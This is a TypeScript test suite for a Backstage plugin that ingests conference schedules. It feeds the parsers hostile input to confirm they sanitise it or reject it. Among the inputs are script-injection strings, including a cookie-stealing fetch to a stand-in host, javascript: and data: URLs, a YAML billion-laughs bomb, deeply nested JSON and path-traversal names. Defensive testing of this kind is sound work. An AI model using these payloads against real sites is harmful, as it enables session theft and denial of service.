/* eslint-disable no-script-url -- hostile input on purpose: links that must be refused */
/* eslint jest/expect-expect: ["warn", { "assertFunctionNames": ["expect", "expect*"] }] -- the helpers named expect… assert */
import { mockServices } from '@backstage/backend-test-utils';
import { UrlReaders } from '@backstage/backend-defaults/urlReader';
import { ConfigReader } from '@backstage/config';
import {
  DefaultNamespaceEntityPolicy,
  Entity,
  EntityPolicies,
  FieldFormatEntityPolicy,
  makeValidator,
  NoForeignRootFieldsEntityPolicy,
  SchemaValidEntityPolicy,
  stringifyEntityRef,
} from '@backstage/catalog-model';
import { CatalogProcessorResult } from '@backstage/plugin-catalog-node';
import { createServer, Server, ServerResponse } from 'http';
import { AddressInfo } from 'net';
import { stringify } from 'yaml';
import { ConferenceLearningsEntitiesProcessor } from '../processors/ConferenceLearningsEntitiesProcessor';
import { TalkTechnologyProcessor } from '../processors/TalkTechnologyProcessor';
import { technologyCatalogOf } from '../technologies/TechnologyIndex';
import { RecordingConnection } from './__testUtils__/RecordingConnection';
import {
  Format,
  FORMATS,
  GOOD,
  Item,
  START,
} from './__testUtils__/sourceFormats';

const format = (name: string) => FORMATS.find(f => f.name === name)!;

/** The formats of talks that a parser cleans, as opposed to the landscape and curated file. */
const SCHEDULE_FORMATS = [
  'sched JSON',
  'sched ICS',
  'sched CSV',
  'sessionize JSON',
  'archive JSON',
].map(name => [name]);

const MB = 1_000_000;
/** About 1 MB of plain prose, words and sentences as in an abstract. */
const megabyteOfProse = 'We run Argo CD at scale. It works. '
  .repeat(MB / 35)
  .trim();

/** The catalog's own checks of every entity it stores. */
const catalogPolicy = EntityPolicies.allOf([
  new SchemaValidEntityPolicy(),
  new DefaultNamespaceEntityPolicy(),
  new NoForeignRootFieldsEntityPolicy(),
  new FieldFormatEntityPolicy(),
]);
const entitiesProcessor = new ConferenceLearningsEntitiesProcessor();
const technologyProcessor = new TalkTechnologyProcessor(() =>
  technologyCatalogOf([]),
);
const validator = makeValidator();

/**
 * Runs the entities through what the catalog does with them: its entity policies,
 * the module's validation of the kinds, and the module's processors, whose relations
 * must point at valid entity names too. No ref may be in the mutation twice.
 */
async function expectCatalogAccepts(entities: Entity[]) {
  const refs = entities.map(e => stringifyEntityRef(e));
  expect(new Set(refs).size).toBe(refs.length);
  for (const original of entities) {
    const entity = await catalogPolicy.enforce(structuredClone(original));
    expect(entity).toBeDefined();
    await expect(entitiesProcessor.validateEntityKind(entity!)).resolves.toBe(
      true,
    );
    const results: CatalogProcessorResult[] = [];
    const location = { type: 'url', target: 'https://example.com/x' };
    for (const processor of [entitiesProcessor, technologyProcessor]) {
      await processor.postProcessEntity(entity!, location, r =>
        results.push(r),
      );
    }
    for (const result of results) {
      if (result.type !== 'relation') continue;
      for (const end of [result.relation.source, result.relation.target]) {
        expect({
          ref: end,
          valid:
            validator.isValidEntityName(end.name) &&
            validator.isValidNamespace(end.namespace),
        }).toEqual({ ref: end, valid: true });
      }
    }
  }
}

/** Every URL field of the entities, wherever the kind has one. */
function urlsOf(entities: Entity[]): unknown[] {
  return entities.flatMap(e => {
    const spec = (e.spec ?? {}) as Record<string, unknown>;
    const speakers = (spec.speakers ?? []) as { url?: unknown }[];
    return [
      spec.video,
      spec.slides,
      spec.schedule,
      spec.url,
      spec.homepage,
      spec.repository,
      ...speakers.map(s => s.url),
    ].filter(url => url !== undefined);
  });
}

const kinds = (entities: Entity[], kind: string) =>
  entities.filter(e => e.kind === kind);

/** Talks, or for the landscape the technologies: what the items became. */
const itemEntities = (f: Format, entities: Entity[]) =>
  f.name === 'landscape YAML'
    ? kinds(entities, 'Technology')
    : kinds(entities, 'Talk');

/** A VEVENT with a title and a date, closing the calendar after it. */
const GOOD_EVENT_ICS = [
  'BEGIN:VEVENT',
  'UID:extra',
  'DTSTART:20260325T080000Z',
  'SUMMARY:Cilium deep dive',
  'END:VEVENT',
  'END:VCALENDAR',
].join('\r\n');

/** Billion laughs: nine levels of ten aliases each under `key`. */
function YAML_BOMB(key: string): string {
  const lines = ['a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]'];
  for (let i = 1; i < 10; i++) {
    const refs = Array.from({ length: 10 }, () => `*a${i - 1}`).join(', ');
    lines.push(`a${i}: &a${i} [${refs}]`);
  }
  lines.push(`${key}: *a9`);
  return `${lines.join('\n')}\n`;
}

describe('hostile input: entity providers', () => {
  let server: Server;
  let baseUrl: string;
  let body: string | Buffer = '';

  beforeAll(async () => {
    server = createServer((_req, res: ServerResponse) =>
      res.writeHead(200).end(body),
    );
    await new Promise<void>(r => server.listen(0, '127.0.0.1', r));
    baseUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    server.closeAllConnections();
    await new Promise(r => server.close(r));
  });

  /**
   * A provider of the format, reading from the loopback server, that has ingested
   * a good document: its entities are `good`.
   */
  async function providerWithGoodState(f: Format) {
    const logger = mockServices.logger.mock();
    const source = `${baseUrl}${f.path}`;
    const provider = f.provider({
      id: 'hostile',
      source,
      timeoutMs: 20_000,
      taskRunner: { run: jest.fn() },
      urlReader: UrlReaders.default({
        config: new ConfigReader({
          backend: { reading: { allow: [{ host: new URL(source).host }] } },
        }),
        logger,
      }),
      logger,
    });
    const connection = new RecordingConnection();
    await provider.connect(connection);
    body = f.document(GOOD);
    await provider.refresh();
    expect(logger.error).not.toHaveBeenCalled();
    expect(connection.mutations).toHaveLength(1);
    const good = connection.entities;
    expect(good).toHaveLength(f.entityCount(GOOD.length));

    /** Serves the document and refreshes once. */
    const ingest = async (document: string | Buffer) => {
      body = document;
      await provider.refresh();
    };
    /** The document was ingested: a second mutation, and no error. */
    const expectIngested = async () => {
      expect(logger.error.mock.calls).toEqual([]);
      expect(connection.mutations).toHaveLength(2);
      await expectCatalogAccepts(connection.entities);
      return connection.entities;
    };
    /** The document was rejected, logged naming the reason, and the good entities stay. */
    const expectRejected = (reason: RegExp) => {
      expect(connection.mutations).toHaveLength(1);
      expect(connection.entities).toEqual(good);
      expect(logger.error).toHaveBeenCalledTimes(1);
      const [message] = logger.error.mock.calls[0] as [string];
      const prefix = `${provider.getProviderName()}: could not ingest ${source}, keeping the entities ingested last: `;
      expect(message.startsWith(prefix)).toBe(true);
      expect(message.slice(prefix.length)).toMatch(reason);
      // one line a person can read, even when the input was huge
      expect(message.length).toBeLessThan(2000);
      expect(message).not.toMatch(/\n\s+at /);
    };
    const warnings = () =>
      logger.warn.mock.calls.map(([message]) => message as string);
    return { ingest, expectIngested, expectRejected, warnings, good, source };
  }

  describe('HTML and <script> in titles, abstracts and speaker names', () => {
    const hostile: Item[] = [
      {
        id: 'html-1',
        title:
          '<b>Argo</b> CD <script>alert("owned")</script>at <i onmouseover="alert(1)">scale</i>',
        abstract:
          '<p>How we run Argo CD.</p><script>fetch("https://evil.example/?c=" + document.cookie)</script><img src=x onerror=alert(1)><iframe src="javascript:alert(1)"></iframe>',
        speaker: '<a href="javascript:alert(1)">Eve</a> Example',
        url: 'https://example.com/argo',
      },
      {
        id: 'html-2',
        title: 'Envoy <3 & <placeholder> in production',
        abstract: 'Use `<your-cluster>` &amp; <unknown-tag>.',
        speaker: 'Bo Sample',
        url: 'https://example.com/envoy',
      },
    ];

    /** What a browser would show: tags removed, script bodies dropped, the rest as written. */
    const cleaned = {
      titles: ['Argo CD at scale', 'Envoy <3 & <placeholder> in production'],
      descriptions: [
        'How we run Argo CD.',
        'Use `<your-cluster>` & <unknown-tag>.',
      ],
    };
    /** Hand-written and landscape text as it is: plain text, rendered as text. */
    const verbatim = {
      titles: hostile.map(item => item.title),
      descriptions: hostile.map(item => item.abstract),
    };
    const EXPECTED_TEXT: Record<string, object> = {
      'sched JSON': { ...cleaned, speakers: ['Eve Example'] },
      'sched ICS': { ...cleaned, speakers: [] }, // the feed has no speakers
      'sched CSV': { ...cleaned, speakers: ['Eve Example'] },
      'sessionize JSON': { ...cleaned, speakers: ['Eve Example'] },
      'archive JSON': { ...cleaned, speakers: [] }, // the archive has no speakers
      'landscape YAML': { ...verbatim, speakers: [] },
      'file (curated YAML)': { ...verbatim, speakers: [hostile[0].speaker] },
    };

    it.each(FORMATS.map(f => [f.name]))(
      '%s: kept as plain text, no entity dropped, every entity valid',
      async name => {
        const f = format(name);
        const { ingest, expectIngested } = await providerWithGoodState(f);
        await ingest(f.document(hostile));
        const entities = await expectIngested();
        expect(entities).toHaveLength(f.entityCount(hostile.length));
        const [first, second] = itemEntities(f, entities);
        expect({
          titles: [first.metadata.title, second.metadata.title],
          descriptions: [
            first.metadata.description,
            second.metadata.description,
          ],
          speakers: (
            (first.spec?.speakers ?? []) as Array<{ name: string }>
          ).map(s => s.name),
        }).toEqual(EXPECTED_TEXT[name]);
      },
    );
  });

  describe('non-http(s) URLs', () => {
    const BAD_URLS: Array<[string, string]> = [
      ['javascript:', 'javascript:alert(document.domain)'],
      ['upper-case JavaScript:', ' JaVaScRiPt:alert(1)'],
      ['data:', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
      ['relative', '/talks/argo-cd-at-scale'],
      ['protocol-relative //host', '//evil.example/talk'],
      ['mailto:', 'mailto:eve@evil.example'],
    ];

    it.each(
      FORMATS.filter(f => f.badUrls === 'dropped').flatMap(f =>
        BAD_URLS.map(([kind, url]) => [f.name, kind, url] as const),
      ),
    )(
      '%s: a %s URL never becomes a link, the item is kept',
      async (name, _kind, url) => {
        const f = format(name);
        const { ingest, expectIngested } = await providerWithGoodState(f);
        await ingest(f.document(GOOD.map(item => ({ ...item, url }))));
        const entities = await expectIngested();
        expect(itemEntities(f, entities)).toHaveLength(GOOD.length);
        expect(urlsOf(entities)).toEqual([]);
        expect(JSON.stringify(entities)).not.toContain(url.trim());
      },
    );

    it.each(BAD_URLS)(
      'file (curated YAML): a %s URL is an error naming the field',
      async (_kind, url) => {
        const { ingest, expectRejected } = await providerWithGoodState(
          format('file (curated YAML)'),
        );
        await ingest(
          format('file (curated YAML)').document(
            GOOD.map(item => ({ ...item, url })),
          ),
        );
        expectRejected(
          /^InputError: Curated talks: conferences\[0\]\.talks\[0\] \("Argo CD at scale"\)\.speakers\[0\]\.url must be an http\(s\) URL$/,
        );
      },
    );

    it.each(FORMATS.map(f => [f.name]))(
      '%s: an upper-case HTTPS:// URL is kept as a link, its scheme in lower case',
      async name => {
        const f = format(name);
        const { ingest, expectIngested } = await providerWithGoodState(f);
        await ingest(
          f.document(
            GOOD.map(item => ({
              ...item,
              url: `HTTPS://Example.com/${item.id}`,
            })),
          ),
        );
        const entities = await expectIngested();
        expect(itemEntities(f, entities)).toHaveLength(GOOD.length);
        expect(new Set(urlsOf(entities))).toEqual(
          new Set(GOOD.map(item => `https://Example.com/${item.id}`)),
        );
      },
    );
  });

  describe('1 MB fields', () => {
    it.each(FORMATS.map(f => [f.name]))(
      '%s: a 1 MB abstract is cut to 20,000 characters',
      async name => {
        const f = format(name);
        const { ingest, expectIngested } = await providerWithGoodState(f);
        await ingest(
          f.document([{ ...GOOD[0], abstract: megabyteOfProse }, GOOD[1]]),
        );
        const entities = await expectIngested();
        const [talk] = itemEntities(f, entities);
        const description = talk.metadata.description!;
        expect(description).toHaveLength(20_000);
        expect(description.endsWith('…')).toBe(true);
        expect(description.startsWith('We run Argo CD at scale.')).toBe(true);
      },
    );

    it.each(FORMATS.map(f => [f.name]))(
      '%s: a 1 MB title is cut to 1,000 characters, the name to 63',
      async name => {
        const f = format(name);
        const { ingest, expectIngested } = await providerWithGoodState(f);
        await ingest(
          f.document([{ ...GOOD[0], title: megabyteOfProse }, GOOD[1]]),
        );
        const entities = await expectIngested();
        const [talk] = itemEntities(f, entities);
        expect(talk.metadata.title).toHaveLength(1000);
        expect(talk.metadata.title!.endsWith('…')).toBe(true);
        expect(talk.metadata.name.length).toBeLessThanOrEqual(63);
      },
    );

    it.each([
      ['sched JSON'],
      ['sched ICS'],
      ['sched CSV'],
      ['sessionize JSON'],
      ['archive JSON'],
    ])(
      '%s: a 1 MB word without spaces, and 1 MB of unclosed <script> and <!--, in the abstract take no longer than prose',
      async name => {
        const f = format(name);
        const { ingest, expectIngested } = await providerWithGoodState(f);
        const started = Date.now();
        await ingest(
          f.document([
            { ...GOOD[0], abstract: 'x'.repeat(MB) },
            { ...GOOD[1], abstract: `<p>${'<script><!--'.repeat(MB / 12)}` },
          ]),
        );
        const entities = await expectIngested();
        expect(Date.now() - started).toBeLessThan(10_000);
        const [first, second] = itemEntities(f, entities);
        expect(first.metadata.description).toHaveLength(20_000);
        expect(second.metadata.description).toHaveLength(20_000);
      },
    );
  });

  describe('malformed documents, deep nesting and wrong types', () => {
    /** 10,000 levels of JSON arrays or objects. */
    const deepArray = `${'['.repeat(10_000)}${']'.repeat(10_000)}`;
    const deepObject = `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`;
    const goodSession = (f: Format) => f.document([GOOD[1]]);

    type Expectation =
      | { rejected: RegExp }
      | { items: number; warning: RegExp };
    const CASES: Array<[string, string, () => string, Expectation]> = [
      // Sched JSON
      [
        'sched JSON',
        'a document of 10,000 nested arrays',
        () => deepArray,
        { rejected: /Sched JSON: no talks with a title found/ },
      ],
      [
        'sched JSON',
        'a title nested 10,000 levels deep',
        () =>
          goodSession(format('sched JSON')).replace(
            /^\[/,
            `[{"id":"deep","name":${deepObject}},`,
          ),
        {
          items: 1,
          warning:
            /Sched JSON: skipped 1 of 2 entries without a title, or inactive$/,
        },
      ],
      [
        'sched JSON',
        'numbers, null, arrays and objects where strings are',
        () =>
          JSON.stringify([
            {
              id: 7,
              name: 42,
              event_start: `${START} 10:00`,
              speakers: 'Eve Example',
              files: { path: 'https://example.com/x' },
              video_stream: ['https://example.com/v'],
            },
            { id: 8, name: null },
            { id: 9, name: ['Argo'] },
            { id: 10, name: { text: 'Argo' } },
            12,
            null,
            'Argo',
          ]),
        {
          items: 1,
          warning: /Sched JSON: skipped 6 of 7 entries without a title/,
        },
      ],
      [
        'sched JSON',
        'null as the document',
        () => 'null',
        {
          rejected:
            /Sched JSON: expected an array of sessions or an object with "types"/,
        },
      ],
      [
        'sched JSON',
        'a scraped index whose "types" is an array',
        () => JSON.stringify({ types: [{ events: [] }] }),
        { rejected: /Sched JSON: "types" must be an object of tracks/ },
      ],
      // Sched ICS
      [
        'sched ICS',
        'events nested 10,000 levels deep, never closed',
        () =>
          `BEGIN:VCALENDAR\r\n${'BEGIN:VEVENT\r\nSUMMARY:Argo\r\n'.repeat(
            10_000,
          )}END:VCALENDAR\r\n`,
        // the calendar's END closes the innermost event, which has no date
        {
          rejected:
            /Schedule: conference test-conf has no dates and none of its talks a start time/,
        },
      ],
      [
        'sched ICS',
        'no calendar at all',
        () => '{"sessions": []}',
        {
          rejected:
            /Sched ICS: expected an iCalendar file starting with BEGIN:VCALENDAR/,
        },
      ],
      [
        'sched ICS',
        'an event without a summary and one with an invalid date',
        () =>
          format('sched ICS')
            .document(GOOD)
            .replace('SUMMARY:Argo CD at scale\r\n', '')
            .replace(
              'DTSTART:20260324T080000Z\r\nDTEND:20260324T083000Z\r\nSUMMARY:Envoy',
              'DTSTART:yesterday\r\nDTEND:20260324T083000Z\r\nSUMMARY:Envoy',
            )
            .replace('END:VCALENDAR', GOOD_EVENT_ICS),
        {
          items: 2,
          warning: /Sched ICS: skipped 1 of 3 entries without a title/,
        },
      ],
      // Sched CSV
      [
        'sched CSV',
        'an unclosed quote',
        () => 'id,name\r\n1,"Argo CD at scale\r\n',
        { rejected: /Sched CSV: a quoted field is not closed/ },
      ],
      [
        'sched CSV',
        'no "name" column',
        () => 'id,title\r\n1,Argo\r\n',
        { rejected: /Sched CSV: expected a header row with a "name" column/ },
      ],
      [
        'sched CSV',
        'rows with too few and too many fields',
        () =>
          [
            'id,name,event_start',
            '1',
            `2,Argo CD at scale,${START} 09:00,extra,fields,"and, more"`,
            `3,,${START} 09:00`,
          ].join('\r\n'),
        {
          items: 1,
          warning: /Sched CSV: skipped 2 of 3 entries without a title/,
        },
      ],
      // Sessionize
      [
        'sessionize JSON',
        'a document of 10,000 nested objects',
        () => deepObject,
        { rejected: /Sessionize: expected the view\/All object/ },
      ],
      [
        'sessionize JSON',
        'sessions as an object instead of an array',
        () => JSON.stringify({ sessions: { 1: { title: 'Argo' } } }),
        { rejected: /Sessionize: expected the view\/All object/ },
      ],
      [
        'sessionize JSON',
        'wrong types inside sessions and speakers',
        () =>
          JSON.stringify({
            sessions: [
              {
                id: 1,
                title: 'Argo CD at scale',
                startsAt: `${START}T09:00:00`,
                speakers: 'sp-1',
                categoryItems: { id: 3 },
                questionAnswers: 'none',
              },
              { id: 2, title: [1, 2] },
              { id: 3, title: 'DEEP' },
              null,
              'Envoy',
            ],
            speakers: { id: 'sp-1' },
            categories: 'all',
            questions: null,
          }).replace('"DEEP"', deepObject),
        {
          items: 1,
          warning: /Sessionize: skipped 4 of 5 entries without a title/,
        },
      ],
      // Archive
      [
        'archive JSON',
        'a document of 10,000 nested arrays',
        () => deepArray,
        {
          rejected: /Talk archive: no talks with a title and an event found/,
        },
      ],
      [
        'archive JSON',
        '"talks" as a number',
        () => JSON.stringify({ talks: 5 }),
        {
          rejected:
            /Talk archive: expected an array of talks or an object with "talks"/,
        },
      ],
      [
        'archive JSON',
        'entries without an event, of the wrong type or nested deep',
        () =>
          JSON.stringify({
            talks: [
              {
                title: 'Argo CD at scale',
                event: 'Test Conf 2026',
                date: START,
                abstract: { text: 'nested' },
                youtube_url: 42,
              },
              { title: 'No event' },
              { title: 'DEEP', event: 'Test Conf 2026' },
              [1, 2],
            ],
          }).replace('"DEEP"', deepObject),
        {
          items: 1,
          warning:
            /Talk archive: skipped 3 of 4 entries without a title or an event/,
        },
      ],
      // Landscape
      [
        'landscape YAML',
        'a flow sequence nested 10,000 levels deep',
        () => `landscape: ${deepArray}\n`,
        { rejected: /Maximum call stack size exceeded at line 1, column \d+/ },
      ],
      [
        'landscape YAML',
        'a YAML bomb: aliases expanding to a billion items',
        () => YAML_BOMB('landscape'),
        {
          rejected:
            /Excessive alias count indicates a resource exhaustion attack/,
        },
      ],
      [
        'landscape YAML',
        '"landscape" as a mapping',
        () => 'landscape:\n  name: Provisioning\n',
        { rejected: /Not a CNCF landscape\.yml: it has no top-level/ },
      ],
      [
        'landscape YAML',
        'subcategories as a number',
        () => 'landscape:\n  - name: Provisioning\n    subcategories: 5\n',
        // the landscape parser's own TypeError, not naming the field
        { rejected: /subcategories|not iterable/ },
      ],
      [
        'landscape YAML',
        'items as a mapping',
        () =>
          'landscape:\n  - name: Provisioning\n    subcategories:\n      - name: Automation\n        items:\n          name: Argo\n',
        { rejected: /items|not iterable/ },
      ],
      // Curated file
      [
        'file (curated YAML)',
        'a flow sequence nested 10,000 levels deep',
        () => `conferences: ${deepArray}\n`,
        {
          rejected:
            /Curated talks: not valid YAML \(Maximum call stack size exceeded/,
        },
      ],
      [
        'file (curated YAML)',
        'a YAML bomb: aliases expanding to a billion items',
        () => YAML_BOMB('technologies'),
        {
          rejected:
            /Curated talks: not valid YAML \(Excessive alias count indicates a resource exhaustion attack\)/,
        },
      ],
      [
        'file (curated YAML)',
        'a list where a mapping is',
        () => 'conferences:\n  - - name: test-conf\n',
        { rejected: /Curated talks: conferences\[0\] must be a mapping/ },
      ],
      [
        'file (curated YAML)',
        'a nested mapping where a title is',
        () =>
          'conferences:\n  - name: test-conf\n    startDate: 2026-03-24\n    endDate: 2026-03-24\n    talks:\n      - title: { text: { more: deep } }\n',
        {
          rejected:
            /Curated talks: conferences\[0\]\.talks\[0\]\.title must be a string/,
        },
      ],
      [
        'file (curated YAML)',
        'a string where the speakers list is',
        () =>
          'conferences:\n  - name: test-conf\n    startDate: 2026-03-24\n    endDate: 2026-03-24\n    talks:\n      - title: Argo\n        speakers: Eve Example\n',
        {
          rejected:
            /Curated talks: conferences\[0\]\.talks\[0\] \("Argo"\)\.speakers must be a list/,
        },
      ],
      [
        'file (curated YAML)',
        'a 1 MB title and a bad link',
        () =>
          format('file (curated YAML)').document([
            { ...GOOD[0], title: 'x'.repeat(MB), url: 'javascript:alert(1)' },
          ]),
        // the title is cut short in the message: one readable line
        {
          rejected:
            /^InputError: Curated talks: conferences\[0\]\.talks\[0\] \("x{59}…"\)\.speakers\[0\]\.url must be an http\(s\) URL$/,
        },
      ],
      [
        'file (curated YAML)',
        'a number as the document',
        () => '42\n',
        { rejected: /Curated talks: the file must be a mapping/ },
      ],
    ];

    it.each(
      CASES.flatMap(([name, payload, document, expected]) =>
        'rejected' in expected
          ? [[name, payload, document, expected.rejected] as const]
          : [],
      ),
    )(
      '%s: %s is rejected naming the problem, keeping the entities ingested last',
      async (name, _payload, document, reason) => {
        const { ingest, expectRejected } = await providerWithGoodState(
          format(name),
        );
        await ingest(document());
        expectRejected(reason);
      },
    );

    it.each(
      CASES.flatMap(([name, payload, document, expected]) =>
        'items' in expected
          ? [[name, payload, document, expected] as const]
          : [],
      ),
    )(
      '%s: %s: the bad entries are skipped with a warning, the others ingested',
      async (name, _payload, document, { items, warning }) => {
        const f = format(name);
        const { ingest, expectIngested, warnings } =
          await providerWithGoodState(f);
        await ingest(document());
        const entities = await expectIngested();
        expect(itemEntities(f, entities)).toHaveLength(items);
        expect(warnings()).toEqual([expect.stringMatching(warning)]);
      },
    );
  });

  describe('invalid UTF-8', () => {
    it.each(FORMATS.map(f => [f.name]))(
      '%s: rejected as not UTF-8 text, keeping the entities ingested last',
      async name => {
        const f = format(name);
        const { ingest, expectRejected } = await providerWithGoodState(f);
        const [head, tail] = f.document(GOOD).split('Argo CD at scale');
        await ingest(
          Buffer.concat([
            Buffer.from(head),
            Buffer.from([0x41, 0xff, 0xfe, 0xc3, 0x28, 0xed, 0xa0, 0x80]),
            Buffer.from(tail),
          ]),
        );
        expectRejected(/not valid UTF-8 text/);
      },
    );
  });

  describe('names that make odd entity refs', () => {
    const ODD_TITLES = [
      '../../etc/passwd',
      'talk:default/a/b:c\\d',
      'Kubernetes ∕ Ärger & Öl',
      '日本語のセッション',
      '🚀🔥',
      'ä'.repeat(300),
      `x${'-'.repeat(298)}y`,
      '...',
      '%2e%2e%2f',
    ];
    const odd: Item[] = ODD_TITLES.map((title, i) => ({
      id: `odd-${i}`,
      title,
      abstract: 'An abstract.',
      speaker: 'Ana Example',
      url: 'https://example.com/odd',
      event: title,
    }));

    const hostile = [
      ...odd,
      { ...GOOD[0], id: 'empty', title: '' },
      { ...GOOD[0], id: 'blank', title: ' \u200b ' },
    ];

    it.each(SCHEDULE_FORMATS)(
      '%s: one talk per titled item, every entity name one the catalog accepts',
      async name => {
        const f = format(name);
        const { ingest, expectIngested, warnings } =
          await providerWithGoodState(f);
        await ingest(f.document(hostile));
        const entities = await expectIngested();
        expect(itemEntities(f, entities)).toHaveLength(odd.length);
        expect(warnings()).toEqual([
          expect.stringMatching(/skipped 2 of 11 entries without a title/),
        ]);
        for (const entity of entities) {
          expect(entity.metadata.name).toMatch(/^[a-z0-9]+(-[a-z0-9]+)*$/);
        }
      },
    );

    it('landscape YAML: every entity name is one the catalog accepts', async () => {
      const f = format('landscape YAML');
      const { ingest, expectIngested } = await providerWithGoodState(f);
      await ingest(f.document(hostile));
      const names = (await expectIngested()).map(e => e.metadata.name);
      // names without a Latin letter or digit all give `technology`, and the
      // landscape takes items of one entity name for one technology
      expect(names.sort()).toEqual([
        '2e-2e-2f',
        'etc-passwd',
        'kubernetes-rger-l',
        'talk-default-a-b-c-d',
        'technology',
        'x-y',
      ]);
    });

    it('file (curated YAML): an empty title is an error naming where it is', async () => {
      const f = format('file (curated YAML)');
      const { ingest, expectRejected } = await providerWithGoodState(f);
      await ingest(f.document(hostile));
      expectRejected(
        /^InputError: Curated talks: conferences\[0\]\.talks\[9\]\.title is required$/,
      );
    });

    it('file (curated YAML): an odd conference name is an error naming it', async () => {
      const f = format('file (curated YAML)');
      const { ingest, expectRejected } = await providerWithGoodState(f);
      await ingest(
        'conferences:\n  - name: ../test-conf\n    startDate: 2026-03-24\n    endDate: 2026-03-24\n',
      );
      expectRejected(
        /Schedule: conferenceName "\.\.\/test-conf" must be a valid entity name/,
      );
    });

    it('file (curated YAML): odd technology refs in a talk relate it to valid refs only', async () => {
      const f = format('file (curated YAML)');
      const { ingest, expectIngested } = await providerWithGoodState(f);
      await ingest(
        stringify({
          conferences: [
            {
              name: 'test-conf',
              startDate: START,
              endDate: START,
              talks: [
                {
                  title: 'Argo CD at scale',
                  technologies: [
                    'technology:default/../../admin',
                    'a:b:c',
                    'technology:',
                    '/argo',
                    '🚀',
                  ],
                },
              ],
            },
          ],
        }),
      );
      await expectIngested();
    });
  });

  describe('duplicate entities in one source', () => {
    const twice = [GOOD[0], GOOD[1], GOOD[0], GOOD[1]];

    it.each(SCHEDULE_FORMATS)(
      '%s: the same talk twice gives one entity, and a warning',
      async name => {
        const f = format(name);
        const { ingest, expectIngested, warnings } =
          await providerWithGoodState(f);
        await ingest(f.document(twice));
        const entities = await expectIngested();
        expect(entities).toHaveLength(f.entityCount(GOOD.length));
        expect(warnings()).toEqual([
          expect.stringMatching(
            /skipped 2 entries repeating the source id of an earlier talk$/,
          ),
        ]);
      },
    );

    it('landscape YAML: the same technology twice gives one entity', async () => {
      const f = format('landscape YAML');
      const { ingest, expectIngested } = await providerWithGoodState(f);
      await ingest(f.document(twice));
      expect((await expectIngested()).map(e => e.metadata.name).sort()).toEqual(
        ['argo-cd-at-scale', 'envoy-in-production'],
      );
    });

    it('file (curated YAML): the same talk twice is an error naming it', async () => {
      const f = format('file (curated YAML)');
      const { ingest, expectRejected } = await providerWithGoodState(f);
      await ingest(f.document(twice));
      expectRejected(
        /^InputError: Schedule: two talks would both be named test-conf-argo-cd-at-scale-[0-9a-f]{8}; give them different source ids$/,
      );
    });

    it('file (curated YAML): the same technology twice is an error naming it', async () => {
      const f = format('file (curated YAML)');
      const { ingest, expectRejected } = await providerWithGoodState(f);
      await ingest(
        'technologies:\n  - name: Argo\n  - name: Envoy\n  - name: argo\n',
      );
      expectRejected(
        /Curated talks: Technology:default\/argo is defined twice/,
      );
    });

    it('archive JSON: talks of two events that would get one name give one entity and a warning', async () => {
      const f = format('archive JSON');
      const { ingest, expectIngested, warnings } = await providerWithGoodState(
        f,
      );
      // conferences `kubecon` and `kubecon-eu`: both talks would be `kubecon-eu-keynote`
      await ingest(
        f.document([
          { id: 'a', title: 'EU Keynote', event: 'KubeCon' },
          { id: 'b', title: 'Keynote', event: 'KubeCon EU' },
        ]),
      );
      const entities = await expectIngested();
      expect(kinds(entities, 'Talk').map(e => e.metadata.title)).toEqual([
        'EU Keynote',
      ]);
      expect(warnings()).toEqual([
        expect.stringContaining(
          'skipped a second entity named talk:default/kubecon-eu-keynote',
        ),
      ]);
    });
  });
});
